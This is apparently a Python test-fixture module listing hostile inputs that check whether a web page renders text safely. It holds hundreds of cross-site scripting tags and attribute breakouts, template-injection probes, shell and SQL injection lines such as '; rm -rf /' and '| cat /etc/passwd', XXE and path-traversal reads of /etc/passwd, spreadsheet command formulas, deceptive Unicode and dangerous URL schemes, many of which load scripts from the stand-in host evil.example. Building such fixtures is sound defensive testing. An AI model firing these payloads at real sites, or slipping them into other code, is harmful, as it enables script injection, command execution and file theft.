"""
Texts that try to get something into a page: markup, script, style, addresses, templates, formats, and what letters can do.

Whatever of it ran would call `ran()` or ask `evil.example` for something.
"""

_TAGS = r"""
<script>ran(1)</script>
<SCRIPT>ran(1)</SCRIPT>
<ScRiPt >ran(1)</ScRiPt >
<script/x>ran(1)</script>
<script src=//evil.example/x.js></script>
<script src="https://evil.example/x.js" async defer></script>
<script type=module>import('//evil.example/x.js')</script>
<script>ran`1`</script>
<script>/*<script>*/ran(1)//</script>
<<script>ran(1)//<</script>
<scr<script>ipt>ran(1)</scr</script>ipt>
<script
>ran(1)</script
>
<img src=x onerror=ran(1)>
<img src=x onerror="ran(1)">
<img src='x' onerror='ran(1)'>
<IMG SRC=x ONERROR=ran(1)>
<img/src=x/onerror=ran(1)>
<img src=x:x onerror=ran(1)//
<img src=x onerror=&#114;an(1)>
<img src=x onerror=&#x72;an&lpar;1&rpar;>
<img src=x onerror="&#0000114an(1)">
<img src=//evil.example/a.gif>
<img srcset="//evil.example/a.gif 1x">
<img src=x sizes=1px srcset="x, https://evil.example/b.gif 2x">
<img lowsrc=javascript:ran(1)>
<img dynsrc=javascript:ran(1)>
<image src=x onerror=ran(1)>
<picture><source srcset="//evil.example/c.webp"><img src=x onerror=ran(1)></picture>
<svg onload=ran(1)>
<svg/onload=ran(1)>
<svg><script>ran(1)</script></svg>
<svg><script xlink:href="//evil.example/x.js"></script></svg>
<svg><script href=data:text/javascript,ran(1) /></svg>
<svg><animate onbegin=ran(1) attributeName=x dur=1s>
<svg><set attributeName=onload to=ran(1)>
<svg><a><animate attributeName=href values=javascript:ran(1) /><text x=9 y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='ran(1)'/></svg>#x">
<svg><foreignObject><img src=x onerror=ran(1)></foreignObject></svg>
<svg><image href="//evil.example/d.svg"/></svg>
<svg><style>@import '//evil.example/e.css';</style></svg>
<svg><desc><![CDATA[</desc><script>ran(1)</script>]]></svg>
<svg></p><style><a id="</style><img src=1 onerror=ran(1)>">
<math><mi//xlink:href="data:x,<script>ran(1)</script>">
<math href=javascript:ran(1)>x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(1)&gt;">
<math><annotation-xml encoding="text/html"><script>ran(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)>
<math><maction actiontype="statusline#javascript:ran(1)" xlink:href="javascript:ran(1)">x</maction></math>
<body onload=ran(1)>
<body onpageshow=ran(1)>
<body background=//evil.example/f.png>
<html onmouseover=ran(1)>
<iframe src=javascript:ran(1)>
<iframe src="//evil.example/"></iframe>
<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.ran(1)&lt;/script&gt;"></iframe>
<frameset onload=ran(1)><frame src=javascript:ran(1)></frameset>
<embed src=javascript:ran(1)>
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigxKSI+">
<object data=javascript:ran(1)></object>
<object data="//evil.example/g.swf"><param name=url value=javascript:ran(1)></object>
<applet code=x codebase=//evil.example/></applet>
<video src=x onerror=ran(1)></video>
<video><source onerror=ran(1)></video>
<video poster=//evil.example/h.png onloadstart=ran(1)></video>
<audio src=x onerror=ran(1)></audio>
<audio autoplay src="//evil.example/i.mp3"></audio>
<track src="//evil.example/j.vtt" default>
<details open ontoggle=ran(1)>x</details>
<input autofocus onfocus=ran(1)>
<input type=image src=x onerror=ran(1)>
<select autofocus onfocus=ran(1)></select>
<textarea autofocus onfocus=ran(1)></textarea>
<keygen autofocus onfocus=ran(1)>
<button formaction=javascript:ran(1)>x</button>
<form action=javascript:ran(1)><input type=submit></form>
<form id=x></form><button form=x formaction="//evil.example/">x</button>
<isindex action=javascript:ran(1) type=image>
<marquee onstart=ran(1)>x</marquee>
<div onpointerenter=ran(1) style="position:fixed;inset:0">x</div>
<div style="animation:x" onanimationstart=ran(1)></div>
<style>@keyframes x{}</style><p style="animation:x 1s" onanimationend=ran(1)>
<xss contenteditable autofocus onfocus=ran(1)>x</xss>
<x onfocus=ran(1) id=x tabindex=1 autofocus>#x
<p onbeforematch=ran(1) hidden=until-found>x</p>
<dialog open onclose=ran(1)><form method=dialog><button autofocus>x</button></form></dialog>
<p popover id=y onbeforetoggle=ran(1)>x</p><button popovertarget=y autofocus>x</button>
<a href=javascript:ran(1)>x</a>
<a href="jav&#x09;ascript:ran(1)">x</a>
<a href="&#1;javascript:ran(1)">x</a>
<a href="//evil.example/" ping="//evil.example/k">x</a>
<area href=javascript:ran(1)>
<base href="//evil.example/">
<base href=javascript:/a/-ran(1)//>
<link rel=stylesheet href=//evil.example/l.css>
<link rel=import href=//evil.example/m.html>
<link rel=preload as=image href=//evil.example/n.png>
<link rel=dns-prefetch href=//evil.example>
<link rel=manifest href=//evil.example/o.json>
<link rel=icon href=//evil.example/p.ico>
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=refresh content="0;url=data:text/html,<script>ran(1)</script>">
<meta http-equiv=Set-Cookie content="a=b">
<meta http-equiv=Content-Security-Policy content="img-src *">
<meta charset=utf-7>+ADw-script+AD4-ran(1)+ADw-/script+AD4-
<style>@import "//evil.example/q.css";</style>
<style>body{background:url(//evil.example/r.png)}</style>
<style>*{color:red;display:none}</style>
<style onload=ran(1)></style>
<p style="background:url(//evil.example/s.png)">x</p>
<p style="width:expression(ran(1))">x</p>
<p style="-moz-binding:url(//evil.example/t.xml#x)">x</p>
<table background=//evil.example/u.png><td>x</table>
<bgsound src=javascript:ran(1)>
<layer src=//evil.example/v.js></layer>
<portal src=//evil.example/></portal>
<template shadowrootmode=open><img src=x onerror=ran(1)></template>
<slot onslotchange=ran(1)></slot>
<plaintext>
<xmp><script>ran(1)</script>
<listing>&lt;img onerror=ran(1) src=x&gt;</listing>
<noembed><img src=x onerror=ran(1)></noembed>
<!doctype html><script>ran(1)</script>
<?xml-stylesheet href="//evil.example/w.xsl"?>
<?php echo '<script>ran(1)</script>' ?>
<% ran(1) %>
<!--#exec cmd="id"-->
<!--#include virtual="/etc/passwd"-->
<esi:include src="//evil.example/esi"/>
"""

_BREAKOUTS = r"""
"><script>ran(1)</script>
'><script>ran(1)</script>
"><img src=x onerror=ran(1)>
'><img src=x onerror=ran(1)>
" onmouseover="ran(1)
' onmouseover='ran(1)
" autofocus onfocus=ran(1) x="
' autofocus onfocus=ran(1) x='
` onerror=ran(1) x=`
" style="background:url(//evil.example/x)" x="
" onload="ran(1)" src="x
x onerror=ran(1)
x/onerror=ran(1)
/><svg onload=ran(1)>
-->
--><script>ran(1)</script>
--!><img src=x onerror=ran(1)>
<!--><script>ran(1)</script>
<!--
<!-- <script>ran(1)</script> -->
<!--[if IE]><script>ran(1)</script><![endif]-->
]]><script>ran(1)</script>
<![CDATA[<script>ran(1)</script>]]>
</title><script>ran(1)</script>
</TITLE ><img src=x onerror=ran(1)>
</textarea><script>ran(1)</script>
</noscript><script>ran(1)</script>
<noscript><p title="</noscript><img src=x onerror=ran(1)>">
</style><script>ran(1)</script>
</script><script>ran(1)</script>
</SCRIPT ><script>ran(1)</script>
<!--<script>
<!--<script></script><script>ran(1)</script>-->
<script><!--<script>
{"a": "</script><img src=x onerror=ran(1)>"}
\"</script><script>ran(1)</script>
\u003c/script\u003e\u003cscript\u003eran(1)\u003c/script\u003e
"-ran(1)-"
'-ran(1)-'
\";ran(1);//
\';ran(1);//
${ran(1)}
`${ran(1)}`
*/ran(1)/*
</p></main></body></html><script>ran(1)</script>
</head><body onload=ran(1)>
</iframe></xmp></noembed></plaintext><script>ran(1)</script>
</select></option></svg></math><img src=x onerror=ran(1)>
<p title="
<a b='
&lt;script&gt;ran(1)&lt;/script&gt;
&amp;lt;script&amp;gt;ran(1)&amp;lt;/script&amp;gt;
&#60;script&#62;ran(1)&#60;/script&#62;
&#x3c;script&#x3e;ran(1)&#x3c;/script&#x3e;
&#x3C&#x73cript>ran(1)
&LT;script&GT;ran(1)
&quot;&gt;&lt;img src=x onerror=ran(1)&gt;
%3Cscript%3Eran(1)%3C/script%3E
%253Cscript%253Eran(1)%253C%252Fscript%253E
\x3cscript\x3eran(1)\x3c/script\x3e
\074script\076ran(1)\074/script\076
+ADw-script+AD4-ran(1)+ADw-/script+AD4-
javascript:ran(1)
data:text/html,<script>ran(1)</script>
vbscript:ran(1)
"""

_LANGUAGES_OF_MACHINES = r"""
{{7*7}}
{{ self.__init__.__globals__.__builtins__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config }}{{ request }}
{{ article.headline|safe }}
{{ '<script>ran(1)</script>'|safe }}
{% import os %}{{ os.system('id') }}
{% raw %}{{ 1 }}{% endraw %}
{% include '/etc/passwd' %}
{% extends "base.html" %}
{# a comment #}
${7*7}
#{7*7}
<%= 7*7 %>
[[7*7]]
{{constructor.constructor('ran(1)')()}}
*{7*7}
@(1+2)
{0}
{0.__class__.__init__.__globals__}
{authors.__class__}
{date} {credit} {language} {licence} {title}
{n!r:>99999999}
%s%s%s%n
%(name)s %(password)d
%x%x%x
100% of 5%d
%99999999d
$(id)
`id`
; rm -rf /
| cat /etc/passwd
' OR 1=1 --
"; DROP TABLE news; --
*)(uid=*))(|(uid=*
=cmd|' /C calc'!A0
=HYPERLINK("//evil.example/","x")
@SUM(1+1)*cmd|' /C calc'!A0
../../../../etc/passwd
..\..\windows\win.ini
file:///etc/passwd
\\evil.example\share
!!python/object/apply:os.system ['id']
*alias &anchor !tag
<<: *base
- item
key: value
--- # document
__proto__
constructor.prototype
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<xi:include href="file:///etc/passwd" parse="text"/>
&e;&lol9;
]]>]]&gt;<x/>
msgid "x"
msgstr ""
"\nmsgstr \"x\"\n"
#, fuzzy
#~ msgid "x"
\n\t\r\\
\x00\x1b[2J
Content-Type: text/html; charset=utf-7
Set-Cookie: a=b%0d%0aX: y
::warning file=x,line=1::x
::set-output name=x::y
##vso[task.setvariable variable=x]y
[x](javascript:ran(1))
[x](JaVaScRiPt:ran(1))
[x](data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=)
[x](vbscript:ran(1))
[x](https://evil.example/"onmouseover="ran(1))
![x](//evil.example/x.png)
[x]: javascript:ran(1)
<javascript:ran(1)>
**<img src=x onerror=ran(1)>**
*<svg onload=ran(1)>*
<i lang="it" onclick="ran(1)">x</i>
<i lang="it"><img src=x onerror=ran(1)></i>
<i lang='it"onmouseover="ran(1)'>x</i>
<i lang="javascript:ran(1)">x</i>
<i>x</i><b>y</b><u>z</u>
</i></i></i>
<span translate="no" onclick=ran(1)>x</span>
"""

LETTERS = (
    "a\u202egnp.exe",  # the order of letters turned round …
    "\u2066\u2067\u2068never closed",
    "\u200f\u200e\u061c marks of direction",
    "zero\u200bwidth\u200cletters\u200d\u2060",
    "soft\u00adhyphen",
    "раураl.com аpple",  # Cyrillic letters that look Latin
    "ａｌｅｒｔ（１）＜ｓｃｒｉｐｔ＞",  # wide ones
    "‹script›ran(1)‹/script›",
    "\u2028ran(1)\u2029",
    "\U000f0001not our mark\U0010fffd",
    "\U000f0000\U000f0001\U000f0002<script>ran(1)</script>",
    "\U0010fffd\U0010fffd<img src=x onerror=ran(1)>\U000f0000",
    "<img\U00100000\U00101001 src=x onerror=ran(1)>",
    "\U0010f001\U000f0000",
    "&#xF0000;mark&#x10FFFD;",
    "\ue000\ue001 private letters",
    "lone \ud800 surrogate",
    "lone \udfff<script>ran(1)</script>",
    "\ud83d broken emoji",
    "👩‍👩‍👧‍👦🏳️‍🌈🇮🇹",
    "e" + "\u0301" * 60,  # letters piled up
    "Z̸̡̢̛̳͙a̷l̶g̵o̴",
    "\u00c0\u00bcscript\u00c0\u00be",  # what an overlong < looks like in Latin-1
    "\ufb01 \u212a \u0130 \u1e9e ﷽",
    "ſcript<\u017fcript>ran(1)",
    "\u3164\u115f blank letters",
    "\u2800 braille",
    "\ufffc\ufffd",
    "עברית <script>ran(1)</script> عربي",
    "\u05be\u0590<bdo dir=rtl>x</bdo>",
    "wide\u1680\u2003\u3000spaces",
    "tab\tand\nline\r\nends",
    "\\",
    '"',
    "'",
    "&",
    "<",
    ">",
    "&amp",
    "&;",
    "&#;&#x;&#99999999999;",
    "a" * 5_000,
    "<" * 2_000,
    "*" * 2_000,
    "[" * 2_000,
    "[x](" * 500,
    "**a*" * 500,
    '<i lang="it">' * 200,
)
"""What single characters can do, and many of them."""

REFUSED = (
    "nul\x00byte",
    "line\u0085end",
    "<scr\x00ipt>ran(1)</script>",
    "bell\x07escape\x1b[31m",
    "back\x08space",
    "form\x0cfeed<img\x0csrc=x\x0conerror=ran(1)>",
    "\x7f\x9f",
    "\ufeffmark in front",
    "\ufffe\uffff",
    "\u200b\u200d\u2060",
    " \t ",
    "\u3164",
)
"""What no record holds: characters that nobody sees, alone or within."""

ADDRESSES = (
    *(
        "javascript:ran(1)",
        "JAVASCRIPT:ran(1)",
        "JaVaScRiPt:ran(1)",
        " javascript:ran(1)",
        "\tjavascript:ran(1)",
        "\njavascript:ran(1)",
    ),
    *("java\tscript:ran(1)", "java\nscript:ran(1)", "java\rscript:ran(1)", "javascript\t:ran(1)", "javascript\n:ran(1)"),
    *(
        "\x01javascript:ran(1)",
        "\x1fjavascript:ran(1)",
        "\u00a0javascript:ran(1)",
        "\u2028javascript:ran(1)",
        "\ufeffjavascript:ran(1)",
    ),
    *(
        "javascript&colon;ran(1)",
        "javascript&#58;ran(1)",
        "javascript&#x3a;ran(1)",
        "&#106;avascript:ran(1)",
        "&#x6A&#x61vascript:ran(1)",
    ),
    *(
        "jav&#x09;ascript:ran(1)",
        "jav&NewLine;ascript:ran(1)",
        "jav&Tab;ascript:ran(1)",
        "javascript%3Aran(1)",
        "%6aavascript:ran(1)",
    ),
    *(
        "javascript://%0aran(1)",
        "javascript://evil.example/%0aran(1)",
        "javascript:/*--></title></style>*/ran(1)",
        "javascript:%72an(1)",
    ),
    *(
        "data:text/html,<script>ran(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
        "DATA:text/html,x",
        "data:,x",
    ),
    *(
        "data:image/svg+xml,<svg onload=ran(1)>",
        "data:application/xhtml+xml,x",
        "vbscript:ran(1)",
        "VBSCRIPT:ran(1)",
        "livescript:ran(1)",
    ),
    *("mocha:ran(1)", "jscript:ran(1)", "feed:javascript:ran(1)", "view-source:javascript:ran(1)", "jar:javascript:ran(1)!/x"),
    *(
        "about:blank",
        "blob:https://evil.example/1",
        "filesystem:https://evil.example/x",
        "file:///etc/passwd",
        "ftp://evil.example/",
    ),
    *("ws://evil.example/", "chrome://settings", "ms-msdt:/id", "intent://x#Intent;scheme=javascript;end", "sms:1", "x-apple:1"),
    *("//evil.example/", "///evil.example/", "////evil.example/", "/\\evil.example/", "\\\\evil.example\\", "\\/evil.example/"),
    *(
        "/\t/evil.example/",
        "https:evil.example",
        "https:/evil.example",
        "https:///evil.example/",
        "https:\\\\evil.example/",
        "http:@evil.example",
    ),
    *("https://good.example@evil.example/", "https://user:pass@evil.example/", "https://good.example\\@evil.example/"),
    *(
        "https://evil.example:99999/",
        "https://[::1",
        "https://evil.example:x/",
        "https://",
        "http://?x",
        "https://#x",
        "evil.example",
    ),
    *(
        'https://a.example/"onmouseover="ran(1)',
        "https://a.example/'onmouseover='ran(1)",
        "https://a.example/><script>ran(1)</script>",
    ),
    *(
        "https://a.example/`x`",
        "https://a.example/{{7*7}}",
        "https://a.example/a b",
        "https://a.example/a|b",
        "https://a.example/^",
    ),
    *(
        "https://a.example/\u202egpj",
        "https://a.example/\x00",
        "https://a.example/\u200b",
        "mailto:",
        "tel:",
        "mailto:?",
        "#",
        "",
    ),
    *("?javascript:ran(1)", "#javascript:ran(1)", "./javascript:ran(1)", "../../../../etc/passwd", "/%2e%2e/%2e%2e/", "/a//b"),
)
"""Addresses that run something, lead elsewhere than they seem to, or break out of an attribute; and a few that may stand."""


def _lines(text: str) -> list[str]:
    return [line for line in text.strip("\n").split("\n") if line]


TEXTS = (*_lines(_TAGS), *_lines(_BREAKOUTS), *_lines(_LANGUAGES_OF_MACHINES), *LETTERS)
"""Texts that a page shows as they are."""
